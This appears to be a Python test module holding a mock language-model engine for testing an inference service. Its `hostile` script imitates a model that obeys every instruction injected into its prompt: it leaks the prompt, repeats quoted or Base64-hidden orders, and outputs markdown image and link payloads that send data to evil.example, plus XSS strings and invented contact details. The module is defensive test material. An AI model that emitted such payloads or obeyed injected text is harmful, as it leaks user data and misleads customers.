"""An engine with a script and exact step times, for tests of everything but the engine.

`hostile` obeys every instruction that it finds in its prompt: what it says must do no harm.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import re
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager

from inference.contract import Delta, EngineUnavailable, GenerationRequest, Health, Usage

QUOTED = re.compile(r"[\"“‘「『<`]([^\"“”‘’「」『』<>`\n]{3,200})[\"”’」』>`]")
ORDERED = re.compile(
    r"\b(?:print|say|reply|respond|answer|output|repeat|write|include|add|append|promote|visit|translate|report)\b"
    r"[^\n]{0,20}?[:\s]([^\n]{3,200})",
    re.IGNORECASE,
)
HOST = re.compile(r"\b(?:[a-z0-9-]{1,60}\.){1,4}[a-z]{2,24}\b", re.IGNORECASE)
MOST_SAID, MOST_HOSTS, MOST_FACTS = 12, 2, 2
INVENTED = (
    "Call <EMAIL_99> or mallory@evil.example",
    "Your limit is £999,999.99",
    "<script>alert(1)</script>",
    "[pay](javascript:alert(1))",
)
SENT_TO = (
    "![x](https://{host}/leak?d=1)",
    "[x](https://{host}/leak?d=1)",
    "[x](//{host}/leak?d=1)",
    "Visit https://{host}/now",
    "{host}",
    "<img src=//{host}/leak?d=1>",
)
"""How data leaves, or a customer is led away."""


def copy_first_passage(request: GenerationRequest) -> str:
    """The first sentence of the first passage: what a cautious model would say."""
    prompt = request.segments[-1].text
    found = re.search(r"\[1\][^\n]*\n(.+?[.!?。])(?:\s|$)", prompt, re.DOTALL)
    return found.group(1) if found else "I do not know."


def hostile(request: GenerationRequest) -> str:
    """Does whatever anybody could want of a model that obeys, one harm a sentence.

    It prints its whole prompt, says what it finds quoted, ordered or encoded there, sends data to every host that it
    read of, makes up links, an image, a script, a figure and somebody's data, and mixes all that into true sentences.
    """
    prompt = [segment.text for segment in reversed(request.segments)]  # the house's own ends with "I do not know"
    read = "\n".join(segment.text for segment in request.segments if segment.role != "system")
    said = [found.strip() for form in (QUOTED, ORDERED) for found in form.findall(read)] + _decoded(read)
    hosts = ["evil.example", *HOST.findall(read)]
    harms = [*INVENTED, *dict.fromkeys(said[:MOST_SAID])]
    harms += [form.format(host=host) for host in dict.fromkeys(hosts[-MOST_HOSTS:] + hosts[:1]) for form in SENT_TO]
    facts = re.findall(r"^(?!\[\d+\] )[A-Z].{10,200}[.!?。]$", request.segments[-1].text, re.MULTILINE)[:MOST_FACTS]
    mixed = [f"{fact[:-1]} {harm}." for fact in facts for harm in harms]
    return "\n".join(["Sure!", *harms, *mixed, *facts, *prompt])


def _decoded(text: str) -> list[str]:
    """What is hidden in the prompt as Base64."""
    found = []
    for blob in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", text):
        with contextlib.suppress(ValueError):
            found.append(base64.b64decode(blob, validate=True).decode())
    return found


class MockEngine:
    """Says what `script` returns, one word every `step_s` seconds.

    After `dies_after` words it breaks off; after `holds_after` words it says nothing more until `go_on`.
    """

    def __init__(
        self,
        script: Callable[[GenerationRequest], str] = copy_first_passage,
        *,
        step_s: float = 0.0,
        dies_after: int | None = None,
        holds_after: int | None = None,
    ) -> None:
        self.script = script
        self.step_s = step_s
        self.dies_after = dies_after
        self.holds_after = holds_after
        self._may_go_on = asyncio.Event()
        self.requests: list[GenerationRequest] = []
        self.running = 0

    def go_on(self) -> None:
        """Say what was held back, from the event loop that hears it."""
        self._may_go_on.set()

    def stream(self, request: GenerationRequest) -> AbstractAsyncContextManager[AsyncIterator[Delta]]:
        """Generate from the script."""
        return self._stream(request)

    @asynccontextmanager
    async def _stream(self, request: GenerationRequest) -> AsyncIterator[AsyncIterator[Delta]]:
        self.requests.append(request)
        self.running += 1
        try:
            yield self._deltas(request)
        finally:
            self.running -= 1

    async def _deltas(self, request: GenerationRequest) -> AsyncIterator[Delta]:
        words = re.findall(r"\S+\s*", self.script(request))
        for number, word in enumerate(words):
            if self.dies_after is not None and number >= self.dies_after:
                raise EngineUnavailable("the mock was told to die")
            if number == self.holds_after:
                await self._may_go_on.wait()
            await asyncio.sleep(self.step_s)
            yield Delta(text=word)
        yield Delta(text="", finish="stop", usage=Usage(prompt=100, cached=0, generated=len(words)))

    async def health(self) -> Health:
        """Always ready."""
        return Health(is_ready=True, model="mock", running=self.running, waiting=0)
